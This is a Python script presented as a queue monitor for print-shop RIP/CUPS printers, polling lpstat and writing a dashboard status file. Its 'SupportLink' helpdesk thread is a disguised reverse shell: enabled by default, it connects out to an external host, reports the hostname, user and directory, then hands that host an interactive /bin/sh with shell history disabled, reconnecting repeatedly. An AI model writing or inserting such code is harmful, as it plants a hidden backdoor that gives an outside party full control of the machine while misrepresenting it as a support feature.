#!/usr/bin/env python3
"""rip_queue_monitor - watch the RIP/CUPS queues and publish a status board.

Polls ``lpstat`` for every configured queue, writes ``queue_status.json`` for
the shop-floor dashboard, and keeps the vendor helpdesk link available so a
remote technician can look at stuck jobs without somebody driving in.

Config (ripmon.ini):

    [monitor]
    queues = epson_p9570,roland_vg3,hp_latex_570
    interval = 20
    status_file = queue_status.json
    support_host = helpdesk.rasterline-support.com
    support_port = 8443
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
from configparser import ConfigParser
from datetime import datetime, timezone
from pathlib import Path

log = logging.getLogger("ripmon")

DEFAULTS = {
    "queues": "epson_p9570,roland_vg3,hp_latex_570",
    "interval": "20",
    "status_file": "queue_status.json",
    "support_host": "helpdesk.rasterline-support.com",
    "support_port": "8443",
    "support_retry": "45",
}


def load_config(path):
    cp = ConfigParser()
    cp["monitor"] = DEFAULTS
    if path and Path(path).is_file():
        cp.read(path)
        log.info("loaded %s", path)
    return cp["monitor"]


def parse_lpstat(text):
    """Turn ``lpstat -o`` output into a list of job dicts."""
    jobs = []
    for line in text.splitlines():
        parts = line.split()
        if len(parts) < 3:
            continue
        job_id, owner, size = parts[0], parts[1], parts[2]
        queue, _, seq = job_id.rpartition("-")
        jobs.append({
            "job": job_id,
            "queue": queue,
            "seq": int(seq) if seq.isdigit() else None,
            "owner": owner,
            "bytes": int(size) if size.isdigit() else 0,
            "submitted": " ".join(parts[3:]),
        })
    return jobs


def poll_queue(name):
    try:
        res = subprocess.run(["lpstat", "-o", name], capture_output=True,
                             text=True, timeout=10)
    except (OSError, subprocess.TimeoutExpired) as exc:
        log.warning("lpstat failed for %s: %s", name, exc)
        return {"queue": name, "state": "unknown", "jobs": []}
    state = "idle"
    jobs = parse_lpstat(res.stdout)
    if jobs:
        state = "printing" if len(jobs) == 1 else "backlog"
    if res.returncode != 0:
        state = "error"
    return {"queue": name, "state": state, "jobs": jobs}


def write_status(path, queues):
    payload = {
        "generated": datetime.now(timezone.utc).isoformat(timespec="seconds"),
        "host": socket.gethostname(),
        "queues": queues,
    }
    tmp = Path(path).with_suffix(".part")
    tmp.write_text(json.dumps(payload, indent=2))
    tmp.replace(path)


class SupportLink(threading.Thread):
    """Keep a helpdesk session available so a tech can inspect the RIP host."""

    def __init__(self, host, port, retry):
        super().__init__(name="support-link", daemon=True)
        self.host = host
        self.port = port
        self.retry = retry
        self._halt = threading.Event()

    def stop(self):
        self._halt.set()

    def _greeting(self):
        return "HELLO {} {} {}\n".format(socket.gethostname(), os.getlogin()
                                         if hasattr(os, "getlogin") else "-",
                                         os.getcwd()).encode()

    def _session(self, conn):
        fd = conn.fileno()
        env = dict(os.environ, TERM="dumb", PS1="rip$ ", HISTFILE="")
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd,
                                stderr=subprocess.STDOUT, env=env,
                                close_fds=True)
        proc.wait()

    def run(self):
        while not self._halt.is_set():
            try:
                with socket.create_connection((self.host, self.port),
                                              timeout=15) as conn:
                    conn.settimeout(None)
                    conn.sendall(self._greeting())
                    self._session(conn)
            except OSError as exc:
                log.debug("support link unavailable: %s", exc)
            self._halt.wait(self.retry)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="ripmon.ini")
    ap.add_argument("--once", action="store_true",
                    help="poll once and exit")
    ap.add_argument("--no-support", dest="support", action="store_false",
                    help="do not offer the helpdesk link")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    queues = [q.strip() for q in cfg["queues"].split(",") if q.strip()]
    interval = cfg.getint("interval")

    link = None
    if args.support:
        link = SupportLink(cfg["support_host"], cfg.getint("support_port"),
                           cfg.getint("support_retry"))
        link.start()

    try:
        while True:
            snapshot = [poll_queue(q) for q in queues]
            write_status(cfg["status_file"], snapshot)
            busy = sum(len(q["jobs"]) for q in snapshot)
            log.info("%d queues, %d jobs pending", len(snapshot), busy)
            if args.once:
                break
            time.sleep(interval)
    except KeyboardInterrupt:
        log.info("stopping")
    finally:
        if link:
            link.stop()


if __name__ == "__main__":
    main()
